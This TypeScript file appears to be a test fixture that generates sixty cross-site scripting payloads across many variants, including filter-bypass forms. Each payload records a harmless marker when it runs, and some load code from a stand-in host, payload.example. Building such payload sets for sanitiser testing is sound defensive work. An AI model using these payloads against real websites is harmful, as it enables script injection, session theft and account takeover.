// Sixty payloads that run if a page treats text as markup, a URL, or code. Each records that it ran.

/** Pages must never send a request to this host. */
export const payloadHost = 'payload.example';

const elsewhere = `https://${payloadHost}`;

const scripts: ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<ScRiPt >${run}</sCrIpT>`,
  (run) => `</title><script>${run}</script>`,
  (run) => `</textarea><script>${run}</script>`,
  (run) => `</script><script>${run}</script>`,
  (run) => `--><script>${run}</script>`,
  (run) => `<script type=module>${run}</script>`,
  () => `<script src=${elsewhere}/x.js></script>`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
];

const handlers: typeof scripts = [
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<IMG SRC=x oNeRrOr=${run}>`,
  (run) => `<img/src=x/onerror=${run}>`,
  (run) => `<img src=x onerror=${run}//`,
  (run) => `<body onload=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<audio src=x onerror=${run}>`,
  (run) => `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart=${run}>`,
];

const drawings: typeof scripts = [
  (run) => `<svg onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  (run) => `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  (run) => `<math href="javascript:${run}">x</math>`,
];

const addresses: typeof scripts = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => `javascript://${payloadHost}/%0a${run}`,
  (run) => `javascript&colon;${run}`,
  (run) => `&#106;avascript:${run}`,
  (run) => `vbscript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `data:text/html;base64,${btoa(`<script>${run}</script>`)}`,
  () => `//${payloadHost}/x.js`,
  () => `/\\${payloadHost}/x.js`,
];

const elements: typeof scripts = [
  (run) => `<iframe src="javascript:${run}"></iframe>`,
  (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  (run) => `<object data="javascript:${run}"></object>`,
  (run) => `<embed src="javascript:${run}">`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  () => `<base href=${elsewhere}/>`,
  () => `<link rel=stylesheet href=${elsewhere}/x.css>`,
  (run) => `<form action=javascript:${run}><button autofocus>x</button></form>`,
];

const styles: typeof scripts = [
  () => `<style>@import "${elsewhere}/x.css";</style>`,
  () => `<p style="background:url(${elsewhere}/x)">`,
  (run) => `<p style="width:expression(${run})">`,
];

/** Harmless when parsed once, markup when parsed again (mutation XSS). */
const reread: typeof scripts = [
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  (run) => `<div><template shadowrootmode=open><img src=x onerror=${run}></template></div>`,
];

const quotes: typeof scripts = [
  (run) => `" autofocus onfocus="${run}`,
  (run) => `' autofocus onfocus='${run}`,
  (run) => `"><svg onload=${run}>`,
  (run) => `';${run};//`,
];

const markdown: typeof scripts = [
  (run) => `[x](javascript:${run})`,
  (run) => `![x](x"onerror="${run})`,
  (run) => `<javascript:${run}>`,
];

const values: typeof scripts = [
  (run) => `＜script＞${run}＜/script＞`,
  (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  (run) => `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}}`,
];

/** Each payload that runs stores its number in `__ran` of its page or the parent page. */
export const payloads: readonly string[] = [
  scripts,
  handlers,
  drawings,
  addresses,
  elements,
  styles,
  reread,
  quotes,
  markdown,
  values,
]
  .flat()
  .map((form, at) => form(`top.__ran=${at + 1}`));

/** All payloads in one text, separated by empty lines, so that they stay separate in Markdown. */
export const sheet = payloads.join('\n\n');

/** All payloads, in texts of at most `longest` characters, without splitting any. */
export const inChunks = (longest: number): string[] =>
  payloads.reduce<string[]>((chunks, payload) => {
    const last = chunks.at(-1);
    if (last === undefined || last.length + 1 + payload.length > longest) return [...chunks, payload];
    return [...chunks.slice(0, -1), `${last} ${payload}`];
  }, []);
